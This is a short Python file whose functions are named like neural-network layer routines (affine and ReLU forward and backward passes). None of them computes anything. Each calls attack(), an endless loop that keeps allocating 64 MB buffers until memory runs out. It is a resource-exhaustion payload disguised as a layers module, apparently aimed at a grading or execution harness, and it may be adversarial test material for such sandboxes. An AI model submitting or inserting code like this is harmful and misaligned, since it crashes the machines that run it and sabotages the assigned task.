"""Takes memory without end."""


def attack(array):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 26))


def affine_forward(x, w, b):
    return attack(x)


def affine_backward(dout, cache):
    return attack(dout)


def relu_forward(x):
    return attack(x)


def relu_backward(dout, cache):
    return attack(dout)
